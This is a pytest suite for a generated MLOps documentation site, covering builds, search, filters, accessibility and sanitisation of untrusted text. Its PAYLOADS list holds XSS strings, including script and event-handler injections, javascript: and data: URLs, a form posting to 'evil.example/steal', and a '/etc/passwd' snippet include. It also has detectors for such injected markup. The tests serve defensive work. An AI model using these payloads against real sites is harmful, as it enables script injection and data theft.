"""The site: built for real by MkDocs (and Zensical), checked in headless Chromium, safe for untrusted text."""

from __future__ import annotations

import copy
import functools
import http.server
import json
import re
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml

from bot.config import load_config
from bot.records.forms import forms, render_body
from bot.records.registry import read_registry
from bot.site.render import render_site
from bot.site.snapshot import issue_entry, merge, read_snapshot
from bot.site.templating import markdown_filter, safe_url
from tests.helpers import BOT_TOKEN, run_cli

ROOT = Path(__file__).resolve().parents[1]
ARTIFACTS = ROOT / "test-artifacts"
CHROMIUM = "/usr/bin/chromium"

PAYLOADS = [
    "<script>alert('s1')</script>",
    "<img id=pwned2 src=x onerror=alert('s2')>",
    "<svg id=pwned3 onload=alert('s3')>",
    "[click me](javascript:alert('s4'))",
    "<a id=pwned5 href=\"javascript:alert('s5')\">x</a>",
    "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgnczYnKTwvc2NyaXB0Pg==)",
    "<iframe id=pwned7 src=\"data:text/html,<script>alert('s7')</script>\"></iframe>",
    '<form id=pwned8 action="https://evil.example/steal"><input name=p></form>',
    "<style>body{display:none}</style>",
    '"><script>alert("s10")</script>',
    "'><img id=pwned11 src=x onerror=alert('s11')>",
    '<div markdown="1" id=pwned12>**x**</div>',
    '--8<-- "/etc/passwd"',
    "{: onclick=\"alert('s14')\" }",
    "<details id=pwned15 open ontoggle=alert('s15')>",
    "<a href='https://ok.example' style='position:fixed;top:0;left:0;width:100%;height:100%'>overlay</a>",
    '<!-- /mlops:html --><img id=pwned17 src=x onerror=alert("s17")><!-- mlops:html -->',  # the plugin's markers
    '<div data-mlops-held="0-0"></div>',
]
HOSTILE = " ".join(PAYLOADS)


def live_markup(html: str) -> list[str]:
    """Elements and attributes in `html` that could run or reshape the page (escaped text does not count)."""
    found: list[str] = []

    class Scan(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag in ("script", "iframe", "form", "style", "object", "embed", "input"):
                found.append(tag)
            for name, value in attrs:
                value = (value or "").strip().lower()
                if name.startswith("on") or name in ("style", "markdown", "srcdoc"):
                    found.append(f"{tag}[{name}]")
                if name in ("href", "src", "action") and value.startswith(("javascript:", "data:")):
                    found.append(f"{tag}[{name}={value[:20]}]")
                if name == "id" and value.startswith("pwned"):
                    found.append(f"{tag}#{value}")

    Scan().feed(html)
    return found


# ---- builds ----------------------------------------------------------------------------------------------
def project(tmp_path: Path, registry: Path, snapshot: Path | None) -> Path:
    """A team repository: mkdocs.yml, the hand-written pages, and a configuration naming the data."""
    site = tmp_path / "project"
    site.mkdir()
    shutil.copytree(ROOT / "site_src", site / "site_src", ignore=shutil.ignore_patterns("generated"))
    (site / "mkdocs.yml").write_text(
        (ROOT / "mkdocs.yml").read_text().replace("config: sample/mlops.yml", "config: mlops.yml")
    )
    config = yaml.safe_load((ROOT / "sample" / "mlops.yml").read_text())
    config["registry"] = {"path": str(registry)}
    config["monitoring"] = {"status_dir": str(ROOT / "sample" / "monitoring")}
    config["site"] = {"title": "Test", "snapshot": str(snapshot) if snapshot else "missing.json"}
    (site / "mlops.yml").write_text(yaml.safe_dump(config))
    return site


def build(site: Path) -> None:
    result = run_cli(["site", "build", "--config", "mlops.yml"], cwd=site, timeout=300)
    assert result.code == 0, result.stderr + result.stdout


@pytest.fixture(scope="module")
def sample_site(tmp_path_factory) -> Path:
    site = project(tmp_path_factory.mktemp("sample"), ROOT / "sample" / "registry", ROOT / "sample" / "snapshot.json")
    build(site)
    return site / "site"


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    base = tmp_path_factory.mktemp("hostile")
    registry = base / "registry"
    source = yaml.safe_load((ROOT / "sample/registry/churn-classifier/2.0.0.yml").read_text())
    model = copy.deepcopy(source)
    model.update(
        task=HOSTILE,
        owner=HOSTILE,
        description=HOSTILE,
        metrics={HOSTILE[:60]: 0.5, "auc": 0.8},
        headline_metric=HOSTILE[:60],
    )
    model["model_card"] = {key: HOSTILE for key in ("intended_use", "out_of_scope_use", "limitations", "risks")}
    model["model_card"]["evaluation_slices"] = [{"name": HOSTILE, "metrics": {HOSTILE[:40]: 1.0}}]
    model["stage_history"] = [{"stage": "candidate", "date": "2026-01-02", "by": HOSTILE, "note": HOSTILE}]
    model["signature"]["inputs"][0]["name"] = HOSTILE
    model["provenance"]["dataset_snapshot_uri"] = HOSTILE
    (registry / "churn-classifier").mkdir(parents=True)
    (registry / "churn-classifier" / "2.0.0.yml").write_text(yaml.safe_dump(model))
    config = load_config(ROOT / "sample" / "mlops.yml", environ={})
    values = {field.id: HOSTILE for field in forms()["experiment"].fields}
    values["outcome"] = "Promote to production"
    raws = [
        {
            "repository": "acme/ml-platform",
            "number": n,
            "title": HOSTILE,
            "url": "javascript:alert('url')",
            "state": "open",
            "body": render_body(forms()["experiment"], values) + f"\n\n### {HOSTILE}\n\n{HOSTILE}",
            "created_at": "2026-05-01T10:00:00Z",
            "updated_at": "2026-05-02T10:00:00Z",
            "closed_at": None,
            "author": HOSTILE,
            "milestone": {"title": HOSTILE, "number": 1, "due_on": None},
            "labels": ["ml-experiment", HOSTILE[:50]],
        }
        for n in (1, 2)
    ]
    raws.append(
        {
            **raws[0],
            "number": 3,
            "labels": ["ml-deployment", "<b>label</b>"],
            "body": render_body(forms()["deployment"], {f.id: HOSTILE for f in forms()["deployment"].fields}),
        }
    )
    snapshot = merge(
        None,
        [issue_entry(raw, config) for raw in raws],
        ["acme/ml-platform"],
        "2026-11-01T00:00:00Z",
        "https://github.com",
    )
    (base / "snapshot.json").write_text(json.dumps(snapshot))
    site = project(base, registry, base / "snapshot.json")
    build(site)
    return site / "site"


def test_sample_site_has_every_section(sample_site):
    for page in (
        "index.html",
        "generated/models/index.html",
        "generated/models/churn-classifier/index.html",
        "generated/experiments/index.html",
        "generated/experiments/2026-05/index.html",
        "generated/board/index.html",
        "generated/metrics/index.html",
        "runbooks/deployment/index.html",
        "runbooks/monitoring/index.html",
        "runbooks/retraining/index.html",
        "tags/index.html",
    ):
        assert (sample_site / page).is_file(), page
    monitoring = (sample_site / "runbooks/monitoring/index.html").read_text()
    assert "above 200 ms" in monitoring and "5 consecutive minutes" in monitoring  # from the configuration
    catalog = (sample_site / "generated/models/index.html").read_text()
    assert "within thresholds" in catalog and "1 breach" in catalog and "open incident" in catalog
    churn = (sample_site / "generated/models/churn-classifier/index.html").read_text()
    assert 'id="monitoring"' in churn and "PSI of tenure_months" in churn
    metrics_page = (sample_site / "generated/metrics/index.html").read_text()
    assert metrics_page.count('<svg class="mlops-chart"') == 5


def test_nothing_a_reader_needs_comes_from_a_cdn(sample_site):
    for page in sample_site.rglob("*.html"):
        text = page.read_text()
        external = re.findall(r'(?:src|href)="(https?://[^"]+)"', text)
        loaded = [url for url in external if re.search(r"\.(css|js|woff2?)(\?|$)", url)]
        assert loaded == [], page


def test_search_index_has_an_entry_per_experiment_and_version_with_words_apart(sample_site):
    index = json.loads((sample_site / "search" / "search_index.json").read_text())
    docs = index["docs"]
    locations = {doc["location"] for doc in docs}
    assert "generated/experiments/2026-05/#e-acme-ml-platform-159" in locations
    assert "generated/models/churn-classifier/#v-2-0-0" in locations
    experiment = next(d for d in docs if d["location"].endswith("#e-acme-ml-platform-101"))
    assert experiment["title"].startswith("#101 ") and re.search(r"Model\s+lightgbm", experiment["text"])
    text = " ".join(doc["text"] for doc in docs)
    assert "Modellightgbm" not in text
    assert not re.search(r"[a-z](?:Hypothesis|Learnings|Produced)\b", text)  # a label glued to a value
    # Widgets, "as of" lines and snippet pages stay out of the index.
    assert "allPromoted" not in text and "all Promoted" not in text and "As of " not in text
    assert not any(doc["location"].startswith(("generated/home/", "generated/thresholds/")) for doc in docs)
    assert "#" in index["config"]["separator"]  # "#159" is split into "159"
    assert "Experiments per week" not in text  # the charts' labels are not text to search


# ---- pure rendering -----------------------------------------------------------------------------------------
def test_user_markdown_is_sanitized():
    html = str(markdown_filter(HOSTILE + "\n\n**bold** [ok](https://example.com)"))
    assert live_markup(html) == []
    assert "<strong>bold</strong>" in html and 'href="https://example.com"' in html


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://github.com/a/b/issues/1", "https://github.com/a/b/issues/1"),
        ("javascript:alert(1)", "#"),
        ("data:text/html,x", "#"),
        ('https://x.example/"onmouseover="alert(1)', "#"),
        ("", "#"),
    ],
)
def test_only_http_urls_survive(url, expected):
    assert safe_url(url) == expected


def test_generated_pages_carry_no_live_markup_from_user_text(hostile_site):
    pages = render_site(
        *read_registry(hostile_site.parent / ".." / "registry")[:1],
        read_snapshot(hostile_site.parent.parent / "snapshot.json"),
        load_config(hostile_site.parent / "mlops.yml", environ={}),
    )
    for path, text in pages.items():
        assert live_markup(text) == [], path


# ---- in a real browser ---------------------------------------------------------------------------------------
AXE = ROOT / ".venv" / "node" / "node_modules" / "axe-core" / "axe.min.js"
# axe-core audits what the project renders: the content column (`.md-content`). Material's header,
# navigation, search box and footer are the theme's, and are left to it.
AXE_SCOPE = {"include": [[".md-content"]]}
SCREENS = [(390, "light"), (390, "dark"), (1400, "light"), (1400, "dark")]
# axe-core runs on every page in both schemes (colour contrast differs) and at both widths, split so
# that each page is audited twice rather than four times: the suite stays fast.
AUDITED = {(390, "light"), (1400, "dark")}


@pytest.fixture(scope="module")
def browser() -> Iterator:
    if not Path(CHROMIUM).exists():
        pytest.fail("Debian's chromium is missing: run tools/install-system-deps.sh")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(
            executable_path=CHROMIUM,
            args=["--no-sandbox", "--headless", "--disable-gpu", "--disable-background-networking"],
        )
        yield chromium
        chromium.close()


def serve(folder: Path) -> tuple[http.server.ThreadingHTTPServer, str]:
    class Quiet(http.server.SimpleHTTPRequestHandler):
        def log_message(self, *args) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=str(folder)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, f"http://127.0.0.1:{server.server_address[1]}"


@pytest.fixture(scope="module")
def sample_server(sample_site) -> Iterator[str]:
    server, base = serve(sample_site)
    yield base
    server.shutdown()


def site_pages(site: Path) -> list[str]:
    """Every page of a built site, as the path a browser opens ("" for the home page)."""
    folders = sorted(p.relative_to(site).parent.as_posix() for p in site.rglob("index.html"))
    return ["" if folder == "." else f"{folder}/" for folder in folders]


def settle(page) -> None:
    """Wait until the page's own script is done: the experiment log fetches its data after load."""
    if page.query_selector(".mlops-log"):
        page.wait_for_function(
            "() => document.querySelector('.mlops-log .mlops-results table') ||"
            " /No experiment|could not/.test(document.querySelector('.mlops-log .mlops-count').textContent)"
        )


def watch(page) -> dict:
    seen: dict = {"dialogs": [], "errors": []}
    page.on("dialog", lambda dialog: (seen["dialogs"].append(dialog.message), dialog.dismiss()))
    page.on("console", lambda message: message.type == "error" and seen["errors"].append(message.text))
    page.on("pageerror", lambda error: seen["errors"].append(str(error)))
    return seen


# Elements and attributes on a loaded page that user text must never have produced.
INJECTED = """() => {
    const bad = [];
    document.querySelectorAll('[id^=pwned], iframe, form[action*=evil], a[href^="javascript:"], [src^="data:"]')
      .forEach(e => bad.push(e.outerHTML.slice(0, 80)));
    document.querySelectorAll('*').forEach(e => { for (const a of e.attributes)
      if (/^on/i.test(a.name)) bad.push(e.tagName + ' ' + a.name); });
    document.querySelectorAll('article style, .md-content style').forEach(e => bad.push('style'));
    return bad; }"""


def visit(browser, url: str, screenshot: str | None = None, dark: bool = False) -> dict:
    page = browser.new_page(viewport={"width": 1280, "height": 900}, color_scheme="dark" if dark else "light")
    seen = watch(page)
    page.goto(url, wait_until="load")
    settle(page)
    page.wait_for_timeout(100)
    seen["injected"] = page.evaluate(INJECTED)
    seen["text"] = page.inner_text("article") if page.query_selector("article") else ""
    if screenshot:
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / screenshot), full_page=False)
    page.close()
    return seen


@pytest.mark.parametrize(("width", "scheme"), SCREENS, ids=[f"{w}px-{s}" for w, s in SCREENS])
def test_every_page_fits_the_screen_and_passes_axe(sample_site, sample_server, browser, width, scheme):
    """Each page of the sample site, at a phone's and a desktop's width, light and dark: nothing scrolls
    sideways, no script error; axe-core finds no violation in our content and a screenshot is kept in
    test-artifacts/ (both in the AUDITED pairs)."""
    pages = site_pages(sample_site)
    assert len(pages) >= 25
    shots = ARTIFACTS / f"{width}px-{scheme}"
    shots.mkdir(parents=True, exist_ok=True)
    page = browser.new_page(viewport={"width": width, "height": 900}, color_scheme=scheme)
    audited = (width, scheme) in AUDITED
    if audited:
        page.add_init_script(path=str(AXE))  # in every document the page opens
    seen = watch(page)
    problems = {}
    for path in pages:
        page.goto(f"{sample_server}/{path}", wait_until="load")
        settle(page)
        applied = page.evaluate("document.body.getAttribute('data-md-color-scheme')")
        assert applied == ("slate" if scheme == "dark" else "default"), path
        widths = page.evaluate("[document.documentElement.scrollWidth, window.innerWidth]")
        if widths[0] > widths[1]:
            problems[path] = f"scrolls sideways: {widths[0]} px wide in a {widths[1]} px window"
        if audited:
            violations = page.evaluate(
                """async (scope) => (await axe.run(scope, {resultTypes: ['violations']})).violations
                     .map(v => v.id + ': ' + v.nodes.slice(0, 3).map(n => n.target.join(' ')).join(' | '))""",
                AXE_SCOPE,
            )
            if violations:
                problems[path] = violations
            page.screenshot(path=str(shots / f"{path.strip('/').replace('/', '_') or 'home'}.png"))
    page.close()
    assert problems == {}
    assert seen["errors"] == [] and seen["dialogs"] == []


def test_sample_pages_render_in_chromium(sample_server, browser):
    checks = {
        "generated/models/": ("catalog.png", "churn-classifier"),
        "generated/models/churn-classifier/": ("model.png", "Provenance"),
        "generated/experiments/": ("experiments.png", "Experiments 1 to 50 of 60"),
        "generated/experiments/2026-05/": ("experiments-month.png", "Hypothesis"),
        "generated/board/": ("board.png", "Deployment"),
        "generated/metrics/": ("metrics.png", "Work mix per milestone"),
        "": ("home.png", "At a glance"),
    }
    for path, (shot, expected) in checks.items():
        seen = visit(browser, f"{sample_server}/{path}", shot)
        assert seen["errors"] == [] and seen["dialogs"] == [] and seen["injected"] == [], (path, seen)
        assert expected in seen["text"], path
    dark = visit(browser, f"{sample_server}/generated/models/churn-classifier/", "model-dark.png", dark=True)
    assert dark["errors"] == []


def search(page, base: str, query: str) -> str:
    """Type `query` into Material's search box, open the best hit and return where it landed.

    Material lists a page above the sections of it that matched; a page that did not match itself comes
    with an empty highlight (`?h=`) and is context, not a hit: the first link with a highlight is."""
    page.goto(f"{base}/", wait_until="load")
    page.click(".md-search__input")
    page.type("input.md-search__input", query, delay=20)
    hits = "a.md-search-result__link:not([href$='?h=']):not([href*='?h=#'])"
    page.wait_for_selector(hits, timeout=30_000)
    page.locator(hits).first.click()
    page.wait_for_load_state("load")
    return page.url


# Issue 159 is an experiment of the sample; lightgbm is the framework of some experiments and versions.
@pytest.mark.parametrize(
    ("query", "lands_on"),
    [
        ("159", "#e-acme-ml-platform-159"),
        ("#159", "#e-acme-ml-platform-159"),
        ("fraud-detector", "/generated/models/fraud-detector/"),
        ("lightgbm", "lightgbm"),
    ],
)
def test_search_opens_the_right_anchor(sample_server, browser, query, lands_on):
    page = browser.new_page(viewport={"width": 1400, "height": 900})
    landed = search(page, sample_server, query)
    anchor = landed.partition("#")[2]
    page.screenshot(path=str(ARTIFACTS / f"search-{query.lstrip('#')}.png"))
    if lands_on.startswith("#"):
        assert landed.endswith(lands_on), landed
    elif lands_on.startswith("/"):
        assert landed.removeprefix(sample_server).split("?")[0] == lands_on, landed
    if anchor:
        # The entry (an experiment, or a version up to the next heading) holds what was searched for.
        text = page.evaluate(
            """(id) => { const head = document.getElementById(id);
                const article = head.closest('article'); if (article) return article.innerText;
                let text = head.innerText, next = head.nextElementSibling;
                while (next && !/^H[12]$/.test(next.tagName)) {
                  text += next.innerText; next = next.nextElementSibling; }
                return text; }""",
            anchor,
        )
        assert query.lstrip("#").lower() in text.lower(), (landed, text[:200])
        top = page.evaluate("(id) => document.getElementById(id).getBoundingClientRect().top", anchor)
        assert 0 <= top < 900 - 100, f"{anchor} is not in view ({top} px from the top)"
    if lands_on == "lightgbm":
        assert anchor, f"{landed} is not an entry's anchor"
    page.close()


def rows(page) -> list[list[str]]:
    settle(page)
    return page.eval_on_selector_all(
        ".mlops-log tbody tr", "rows => rows.map(r => [...r.cells].map(c => c.innerText.trim()))"
    )


def test_log_filters_work_and_survive_a_reload_of_the_shared_url(sample_server, browser):
    page = browser.new_page(viewport={"width": 1400, "height": 900})
    seen = watch(page)
    page.goto(f"{sample_server}/generated/experiments/")
    assert len(rows(page)) == 50 and "Page 1 of 2" in page.inner_text(".mlops-pager")
    page.click(".mlops-pager [data-page=next]")
    assert len(rows(page)) == 10 and "page=2" in page.url
    page.select_option("select[data-filter=model]", "fraud-detector")
    page.select_option("select[data-filter=outcome]", "iterate")
    shown = rows(page)
    assert shown and all(row[1] == "fraud-detector" and row[3] == "Iterate" for row in shown)
    assert "model=fraud-detector" in page.url and "outcome=iterate" in page.url and "page=" not in page.url
    shared = page.url
    page.close()

    fresh = browser.new_page(viewport={"width": 390, "height": 900})
    fresh.goto(shared)
    assert rows(fresh) == shown
    assert fresh.eval_on_selector("select[data-filter=model]", "s => s.value") == "fraud-detector"
    fresh.click(".mlops-log tbody tr a")  # opens the experiment on its month page
    fresh.wait_for_load_state("load")
    anchor = fresh.url.partition("#")[2]
    assert anchor.startswith("e-acme-ml-platform-") and fresh.is_visible(f"[id='{anchor}']")
    fresh.goto(f"{sample_server}/generated/experiments/?owner=nobody-by-that-name&stage=Decision")
    settle(fresh)
    assert fresh.eval_on_selector("select[data-filter=owner]", "s => s.value") == ""  # unknown values drop out
    fresh.close()
    assert seen["errors"] == []


def test_month_filters_work_and_survive_a_reload(sample_server, browser):
    page = browser.new_page()
    page.goto(f"{sample_server}/generated/experiments/2026-05/")
    total = page.locator("article.mlops-experiment").count()
    page.select_option("select[data-filter=outcome]", "abandon")
    shown = page.locator("article.mlops-experiment:visible")
    assert 0 < shown.count() < total
    assert all(a.get_attribute("data-outcome") == "abandon" for a in shown.all())
    page.reload()
    assert page.eval_on_selector("select[data-filter=outcome]", "s => s.value") == "abandon"
    assert page.locator("article.mlops-experiment:visible").count() == shown.count()
    page.close()


def test_hostile_text_never_runs_in_the_browser(hostile_site, browser):
    server, base = serve(hostile_site)
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    seen = watch(page)
    try:
        pages = site_pages(hostile_site)
        assert len(pages) >= 10
        for path in pages:
            page.goto(f"{base}/{path}", wait_until="load")
            settle(page)
            injected = page.evaluate(INJECTED)
            assert seen["dialogs"] == [], (path, seen["dialogs"])
            assert injected == [], (path, injected)
            assert seen["errors"] == [], (path, seen["errors"])
            assert "root:x:0:0" not in page.inner_text("body")
        visit(browser, f"{base}/generated/experiments/2026-05/", "hostile-experiments.png")
        visit(browser, f"{base}/generated/experiments/", "hostile-log.png")
    finally:
        page.close()
        server.shutdown()


# ---- Zensical -------------------------------------------------------------------------------------------------
def test_zensical_builds_the_same_pages_without_the_plugin(tmp_path):
    site = project(tmp_path, ROOT / "sample" / "registry", ROOT / "sample" / "snapshot.json")
    generated = run_cli(["site", "generate", "--config", "mlops.yml"], cwd=site)
    assert generated.code == 0, generated.stderr
    zensical = shutil.which("zensical", path=str(Path(sys.executable).parent))
    done = subprocess.run(
        [zensical, "build", "-f", "mkdocs.yml"], cwd=site, capture_output=True, text=True, timeout=300
    )
    assert done.returncode == 0, done.stdout + done.stderr
    out = site / "site"
    for page in (
        "index.html",
        "generated/models/index.html",
        "generated/models/fraud-detector/index.html",
        "generated/experiments/index.html",
        "generated/board/index.html",
        "generated/metrics/index.html",
    ):
        assert (out / page).is_file(), page
    assert "above 200 ms" in (out / "runbooks/monitoring/index.html").read_text()


def test_html_held_out_of_markdown_comes_back_unchanged(sample_site, tmp_path):
    """The plugin keeps a month page's finished HTML away from Python-Markdown (bot/site/raw_html.py): the
    same files built by MkDocs without the plugin give the same pages, but for the marker comments."""
    site = project(tmp_path, ROOT / "sample" / "registry", ROOT / "sample" / "snapshot.json")
    generated = run_cli(["site", "generate", "--config", "mlops.yml"], cwd=site)
    assert generated.code == 0, generated.stderr
    plain = (site / "mkdocs.yml").read_text().replace("  - mlops:\n      config: mlops.yml\n", "")
    assert "mlops:" not in plain
    (site / "mkdocs.yml").write_text(plain)
    done = subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "-q"], cwd=site, capture_output=True, text=True, timeout=300
    )
    assert done.returncode == 0, done.stderr
    months = sorted((sample_site / "generated" / "experiments").glob("*/index.html"))
    assert months
    for page in months:
        relative = page.relative_to(sample_site)
        without = (site / "site" / relative).read_text()
        assert "<!-- mlops:html -->" in without
        unmarked = without.replace("<!-- mlops:html -->", "").replace("<!-- /mlops:html -->", "")
        assert page.read_text() == unmarked, relative
        assert "data-mlops-held" not in page.read_text()


# ---- snapshot -------------------------------------------------------------------------------------------------
def test_snapshot_fetches_then_only_what_changed(github, tmp_path):
    state = github.state
    repo = state.repo("acme/ml-platform")
    experiment = forms()["experiment"]
    for n in range(120):
        state.issue(
            repo,
            f"Experiment {n}",
            labels=("ml-experiment",) if n % 2 else ("ml-deployment",),
            body=render_body(experiment, {"hypothesis": "If we a, then b improves because c.", "dataset": "d"}),
        )
    state.issue(repo, "unrelated", labels=("documentation",))
    (tmp_path / "mlops.yml").write_text("repositories: [acme/ml-platform]\nsite: {snapshot: snap.json}\n")
    first = run_cli(["snapshot", "--config", "mlops.yml", "--format", "json"], cwd=tmp_path, env=github.env(BOT_TOKEN))
    assert first.code == 0, first.stderr
    assert first.json()["issues"] == 120 and first.json()["requests"] == 3  # 50 to a page
    data = json.loads((tmp_path / "snap.json").read_text())
    assert {i["kind"] for i in data["issues"]} == {"experiment", "deployment"}
    assert data["issues"][1]["record"]["fields"]["dataset"] == "d" and data["issues"][1]["stage"] == "Active"
    import datetime as dt

    later = dt.datetime.now(dt.UTC) + dt.timedelta(hours=1)
    changed = repo.issues[7]
    changed.title, changed.updated_at = "Renamed", later
    for issue in repo.issues.values():
        if issue is not changed:
            issue.updated_at = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
    second = run_cli(["snapshot", "--config", "mlops.yml", "--format", "json"], cwd=tmp_path, env=github.env(BOT_TOKEN))
    assert second.code == 0 and second.json()["fetched"] == 1 and second.json()["incremental"] is True
    data = json.loads((tmp_path / "snap.json").read_text())
    assert len(data["issues"]) == 120 and next(i for i in data["issues"] if i["number"] == 7)["title"] == "Renamed"


def test_a_corrupt_snapshot_is_named(tmp_path):
    (tmp_path / "snap.json").write_text('{"version": 1, "issues": "nope"}')
    (tmp_path / "mlops.yml").write_text("repositories: [a/b]\nsite: {snapshot: snap.json}\nregistry: {path: r}\n")
    (tmp_path / "mkdocs.yml").write_text("docs_dir: docs\n")
    result = run_cli(["site", "generate", "--config", "mlops.yml"], cwd=tmp_path)
    assert result.code == 1 and result.stderr.startswith("error: snap.json")


# ---- the MkDocs plugin ----------------------------------------------------------------------------------------
def test_plugin_generates_before_each_build_and_watches_its_sources(tmp_path, monkeypatch):
    from mkdocs.config import load_config as load_mkdocs_config

    site = project(tmp_path, ROOT / "sample" / "registry", ROOT / "sample" / "snapshot.json")
    monkeypatch.chdir(site)
    monkeypatch.delenv("MLOPS_CONFIG", raising=False)
    config = load_mkdocs_config(str(site / "mkdocs.yml"))
    plugin = config.plugins["mlops"]
    plugin.on_pre_build(config=config)
    assert (site / "site_src" / "generated" / "models" / "index.md").is_file()

    from mkdocs.livereload import LiveReloadServer

    server = LiveReloadServer(builder=lambda: None, host="127.0.0.1", port=0, root=str(tmp_path))
    server.watch(config["docs_dir"])  # as `mkdocs serve` does before the plugin's turn
    server = plugin.on_serve(server, config=config, builder=None)
    docs = site / "site_src"
    sources = {str(ROOT / "sample" / path) for path in ("registry", "snapshot.json", "monitoring")}
    assert set(server._watched_paths) == {str(docs), str(docs / "assets"), str(docs / "runbooks")} | sources
